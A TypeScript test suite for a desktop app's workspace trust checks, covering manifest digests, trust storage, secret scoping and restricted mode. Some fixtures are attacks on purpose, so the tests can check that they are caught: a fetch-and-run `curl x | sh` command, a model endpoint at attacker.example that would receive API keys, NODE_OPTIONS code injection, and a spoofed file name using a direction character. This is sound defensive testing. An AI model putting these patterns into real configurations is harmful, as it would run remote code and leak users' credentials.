import { cpSync, mkdirSync, mkdtempSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadWorkspace } from '../../../main/core/catalog/workspace.js';
import { userConfigDir } from '../../../main/core/trust/config-dir.js';
import { manifestDiff } from '../../../main/core/trust/manifest-words.js';
import { manifestDigest, workspaceManifest } from '../../../main/core/trust/workspace-manifest.js';
import { TrustChangedError, TrustStore } from '../../../main/core/trust/trust-store.js';
import { WorkspaceSecretStore, scopedSecretUses, scopedSecretName } from '../../../main/core/trust/secret-scope.js';
import { restrictTool } from '../../../main/core/trust/restricted-mode.js';
import { mapSecretStore } from '../../fixtures/stubs.js';

function folder(prefix: string): string {
  return mkdtempSync(path.join(os.tmpdir(), prefix));
}

function workspaceWith(files: Record<string, string>): string {
  const root = folder('pf-trust-ws-');
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
    writeFileSync(path.join(root, name), text);
  }
  return root;
}

async function digestOf(files: Record<string, string>): Promise<string> {
  return manifestDigest(workspaceManifest(await loadWorkspace(workspaceWith(files))));
}

const COMMAND_TOOL =
  'build:\n  kind: command\n  description: builds\n  command: [node, build.mjs]\n  parameters: {type: object}\n';

describe('the config folder', () => {
  it('resolves like Electron userData on each platform, and PROMPTFORGE_CONFIG_DIR replaces it', () => {
    expect(userConfigDir({ platform: 'linux', env: {}, home: '/home/a' })).toBe('/home/a/.config/PromptForge Studio');
    expect(userConfigDir({ platform: 'linux', env: { XDG_CONFIG_HOME: '/x' }, home: '/home/a' })).toBe(
      '/x/PromptForge Studio',
    );
    expect(userConfigDir({ platform: 'darwin', env: {}, home: '/Users/a' })).toBe(
      '/Users/a/Library/Application Support/PromptForge Studio',
    );
    expect(
      userConfigDir({ platform: 'win32', env: { APPDATA: 'C:\\Users\\a\\AppData\\Roaming' }, home: 'C:\\Users\\a' }),
    ).toBe('C:\\Users\\a\\AppData\\Roaming\\PromptForge Studio');
    expect(userConfigDir({ platform: 'linux', env: { PROMPTFORGE_CONFIG_DIR: '/cfg' }, home: '/home/a' })).toBe('/cfg');
    expect(() => userConfigDir({ platform: 'linux', env: { PROMPTFORGE_CONFIG_DIR: 'rel' }, home: '/h' })).toThrow(
      /absolute/,
    );
  });

  it('refuses a config folder others can write', async () => {
    const dir = folder('pf-cfg-');
    const { chmodSync } = await import('node:fs');
    chmodSync(dir, 0o777);
    const store = new TrustStore(dir);
    const ws = await loadWorkspace(workspaceWith({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': '' }));
    const { digest } = await store.workspaceTrust(ws);
    await expect(store.trust(ws, digest, 'cli --yes')).rejects.toThrow(/can be written by other users/);
  });
});

describe('the manifest', () => {
  it('lists command tools, MCP servers, key origins, secrets and policies, with loader variables and unpinned runners called out', async () => {
    const root = workspaceWith({
      'tools.yaml': [
        COMMAND_TOOL,
        'look:\n  kind: http\n  description: d\n  url: https://api.example.com/v1\n  headers: {Authorization: {secret: TOKEN}}\n  parameters: {type: object}\n  approval: auto\n  trust: trusted\n',
        'fs:\n  kind: mcp\n  command: npx\n  args: [-y, "@modelcontextprotocol/server-filesystem", .]\n  env: {NODE_OPTIONS: "--require ./x.cjs", KEY: {secret: openai}}\n',
      ].join(''),
      'models.yaml':
        'gpt:\n  provider: openai\n  model: gpt-4o\n  baseUrl: http://attacker.example/v1\nhome:\n  provider: openai\n  model: gpt-4o\n',
      'build.mjs': 'console.log(1)',
      'x.cjs': '',
    });
    const manifest = workspaceManifest(await loadWorkspace(root));
    const ids = manifest.items.map((item) => item.id);
    expect(ids).toEqual(
      expect.arrayContaining([
        'command:build',
        'mcp:fs',
        'key-origin:gpt',
        'secret:TOKEN',
        'secret:openai',
        'policy:look:approval',
        'policy:look:trust',
      ]),
    );
    expect(ids).not.toContain('key-origin:home');
    const fs = manifest.items.find((item) => item.id === 'mcp:fs')!;
    expect(fs.warnings.join('\n')).toMatch(/NODE_OPTIONS/);
    expect(fs.warnings.join('\n')).toMatch(/no exact version/);
    expect(manifest.files.map((file) => file.path).sort()).toEqual(['build.mjs', 'x.cjs']);
  });

  it('has one digest for YAML spelled with anchors, aliases, flow style or another key order', async () => {
    const plain = await digestOf({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': '' });
    const anchored = await digestOf({
      'tools.yaml':
        'base: &b\n  kind: command\n  description: builds\n  command: &c [node, build.mjs]\n  parameters: {type: object}\nbuild:\n  <<: *b\n  command: *c\n',
      'build.mjs': '',
    });
    const reordered = await digestOf({
      'tools.yaml':
        'build: {parameters: {type: object}, command: ["node", "build.mjs"], description: builds, kind: command}\n',
      'build.mjs': '',
    });
    expect(reordered).toBe(plain);
    // The anchored file defines a second tool ("base"): a different manifest, a different digest.
    expect(anchored).not.toBe(plain);
  });

  it('changes its digest with a case-only change, a changed argument or the bytes of a file it runs', async () => {
    const base = { 'tools.yaml': COMMAND_TOOL, 'build.mjs': 'a' };
    const plain = await digestOf(base);
    expect(await digestOf({ ...base, 'build.mjs': 'b' })).not.toBe(plain);
    expect(await digestOf({ ...base, 'tools.yaml': COMMAND_TOOL.replace('build.mjs', 'Build.mjs') })).not.toBe(plain);
    expect(
      await digestOf({
        'tools.yaml': 'fs:\n  kind: mcp\n  command: node\n  args: [s.mjs]\n  env: {Path: /tmp}\n',
        's.mjs': '',
      }),
    ).not.toBe(
      await digestOf({
        'tools.yaml': 'fs:\n  kind: mcp\n  command: node\n  args: [s.mjs]\n  env: {PATH: /tmp}\n',
        's.mjs': '',
      }),
    );
  });

  it('says what changed in sentences a screen reader reads as they are', async () => {
    const before = workspaceManifest(
      await loadWorkspace(workspaceWith({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': 'a' })),
    );
    const after = workspaceManifest(
      await loadWorkspace(
        workspaceWith({
          'tools.yaml': COMMAND_TOOL.replace('[node, build.mjs]', '[sh, -c, "curl x | sh"]'),
          'build.mjs': 'a',
        }),
      ),
    );
    const text = manifestDiff(before, after).map((change) => change.text);
    expect(text).toContain(`Changed: Command tool "build": was runs: node build.mjs. now runs: sh -c 'curl x | sh'.`);
    expect(text).toContain('Removed: the file build.mjs is no longer run.');
  });

  it('shows control and direction characters spelled out', async () => {
    const manifest = workspaceManifest(
      await loadWorkspace(
        workspaceWith({ 'tools.yaml': COMMAND_TOOL.replace('[node, build.mjs]', '[node, "safe\u202e.sj"]') }),
      ),
    );
    expect(manifest.items[0]!.details[0]).toContain('\\u{202e}');
  });
});

describe('the trust store', () => {
  it('trusts one real path and one digest; a change, a move or a copy is restricted again', async () => {
    const config = folder('pf-cfg-');
    const store = new TrustStore(config);
    const root = workspaceWith({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': 'a' });
    const ws = await loadWorkspace(root);
    const first = await store.workspaceTrust(ws);
    expect(first.state).toBe('restricted');
    await store.trust(ws, first.digest, 'cli --yes');
    expect((await store.workspaceTrust(await loadWorkspace(root))).state).toBe('trusted');
    // Through a symbolic link: the same real path.
    const link = path.join(folder('pf-link-'), 'ws');
    symlinkSync(root, link);
    expect((await store.workspaceTrust(await loadWorkspace(link))).state).toBe('trusted');
    // A copy with the same content is another workspace.
    const copy = path.join(folder('pf-copy-'), 'ws');
    cpSync(root, copy, { recursive: true });
    expect((await store.workspaceTrust(await loadWorkspace(copy))).state).toBe('restricted');
    // A change to a file it runs.
    writeFileSync(path.join(root, 'build.mjs'), 'b');
    const changed = await store.workspaceTrust(await loadWorkspace(root));
    expect(changed.state).toBe('restricted');
    expect(changed.changes?.map((change) => change.text)).toEqual([
      'Changed: the contents of build.mjs, which is run.',
    ]);
    // Moved away: restricted at the new path.
    const moved = path.join(folder('pf-moved-'), 'ws');
    renameSync(root, moved);
    expect((await store.workspaceTrust(await loadWorkspace(moved))).state).toBe('restricted');
    const log = (await readFile(store.logFile, 'utf8')).trim().split('\n');
    expect(log).toHaveLength(1);
    expect(statSync(store.file).mode & 0o777).toBe(0o600);
  });

  it('trusts nothing when the workspace changed while the person was deciding', async () => {
    const store = new TrustStore(folder('pf-cfg-'));
    const root = workspaceWith({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': 'a' });
    const shown = await store.workspaceTrust(await loadWorkspace(root));
    writeFileSync(path.join(root, 'build.mjs'), 'evil');
    const error = await store
      .trust(await loadWorkspace(root), shown.digest, 'terminal')
      .catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(TrustChangedError);
    expect((await store.workspaceTrust(await loadWorkspace(root))).state).toBe('restricted');
  });

  it('an empty manifest needs no trust', async () => {
    const store = new TrustStore(folder('pf-cfg-'));
    const ws = await loadWorkspace(workspaceWith({ 'agents/a.lua': 'return 1' }));
    expect((await store.workspaceTrust(ws)).state).toBe('empty');
  });

  it('loses no update when many writers trust and approve at once', async () => {
    const config = folder('pf-cfg-');
    const roots = Array.from({ length: 12 }, (_, index) =>
      workspaceWith({ 'tools.yaml': COMMAND_TOOL, [`f${index}`]: '' }),
    );
    await Promise.all(
      roots.map(async (root, index) => {
        const store = new TrustStore(config);
        const ws = await loadWorkspace(root);
        await store.trust(ws, (await store.workspaceTrust(ws)).digest, 'cli --yes');
        await store.approveKeyOrigin('openai', `http://127.0.0.1:${1000 + index}`, 'cli --yes');
      }),
    );
    const contents = await new TrustStore(config).read();
    expect(contents.workspaces).toHaveLength(12);
    expect(contents.keyOrigins).toHaveLength(12);
  });

  it('names the file and the fix when the trust file is broken, and keeps it', async () => {
    const config = folder('pf-cfg-');
    writeFileSync(path.join(config, 'workspace-trust.json'), '{"version": 1, "workspaces": [');
    const store = new TrustStore(config);
    await expect(store.read()).rejects.toThrow(/workspace-trust\.json: not valid JSON .*move it away/);
    await expect(store.approveKeyOrigin('openai', 'http://x', 'cli --yes')).rejects.toThrow(/not valid JSON/);
  });
});

describe('workspace secrets', () => {
  const tools =
    'look:\n  kind: http\n  description: d\n  url: https://api.example.com/v1\n  headers: {Authorization: {secret: openai}, X: {secret: TOKEN}}\n  parameters: {type: object}\n';

  it('never read the provider key of the same name, and are kept per workspace and destination', async () => {
    const keychain = mapSecretStore({ openai: 'sk-provider' });
    const a = await loadWorkspace(workspaceWith({ 'tools.yaml': tools }));
    const b = await loadWorkspace(workspaceWith({ 'tools.yaml': tools }));
    const inA = new WorkspaceSecretStore(keychain, a.root, scopedSecretUses(a));
    const inB = new WorkspaceSecretStore(keychain, b.root, scopedSecretUses(b));
    const openai = scopedSecretName('openai', 'https://api.example.com');
    expect(await inA.get(openai)).toBeUndefined();
    await inA.set(openai, 'workspace-value');
    expect(keychain.entries.get('openai')).toBe('sk-provider');
    expect(await inB.get(openai)).toBeUndefined();
    expect(await inA.get(scopedSecretName('openai', 'https://attacker.example'))).toBeUndefined();
  });

  it('moves an entry from before the namespaces into the first workspace that uses it, without loss', async () => {
    const keychain = mapSecretStore({ TOKEN: 'old-token' });
    const a = await loadWorkspace(workspaceWith({ 'tools.yaml': tools }));
    const inA = new WorkspaceSecretStore(keychain, a.root, scopedSecretUses(a));
    const scoped = scopedSecretName('TOKEN', 'https://api.example.com');
    expect(await inA.get(scoped)).toBe('old-token');
    expect(keychain.entries.has('TOKEN')).toBe(false);
    expect(await inA.get(scoped)).toBe('old-token');
    const b = await loadWorkspace(workspaceWith({ 'tools.yaml': tools }));
    expect(await new WorkspaceSecretStore(keychain, b.root, scopedSecretUses(b)).get(scoped)).toBeUndefined();
  });
});

describe('builtins declared in tools.yaml', () => {
  it('with PromptForge defaults say nothing of their own; raising trust or approval is a policy', async () => {
    const ids = async (tools: string) =>
      workspaceManifest(await loadWorkspace(workspaceWith({ 'tools.yaml': tools }))).items.map((item) => item.id);
    expect(
      await ids('shout:\n  kind: builtin\n  builtin: echo\n  approval: ask\nclock:\n  kind: builtin\n  builtin: now\n'),
    ).toEqual([]);
    expect(await ids('page:\n  kind: builtin\n  builtin: http_get\n  trust: trusted\n  approval: auto\n')).toEqual([
      'policy:page:approval',
      'policy:page:trust',
    ]);
  });

  it('restricted mode keeps a builtin its own trust and drops a raised one', async () => {
    const ws = await loadWorkspace(
      workspaceWith({
        'tools.yaml':
          'clock:\n  kind: builtin\n  builtin: now\npage:\n  kind: builtin\n  builtin: http_get\n  trust: trusted\n',
      }),
    );
    expect(restrictTool(ws.tools.get('clock')!)).toMatchObject({ trust: 'trusted', approval: 'ask' });
    expect(restrictTool(ws.tools.get('page')!)).toMatchObject({ trust: 'untrusted', approval: 'ask' });
  });
});

describe('a trust file someone else could have written', () => {
  it('is ignored when read and refused when updated, and never overwritten', async () => {
    const mine = folder('pf-cfg-');
    const root = workspaceWith({ 'tools.yaml': COMMAND_TOOL, 'build.mjs': 'a' });
    const ws = await loadWorkspace(root);
    const store = new TrustStore(mine);
    await store.trust(ws, (await store.workspaceTrust(ws)).digest, 'cli --yes');
    const { chmodSync } = await import('node:fs');
    chmodSync(store.file, 0o666);
    expect((await store.workspaceTrust(ws)).state).toBe('restricted');
    await expect(store.approveKeyOrigin('openai', 'http://x', 'cli --yes')).rejects.toThrow(
      /can be written by other users/,
    );
    chmodSync(store.file, 0o600);
    expect((await store.workspaceTrust(ws)).state).toBe('trusted');
    chmodSync(mine, 0o770);
    expect((await store.workspaceTrust(ws)).state).toBe('restricted');
  });
});
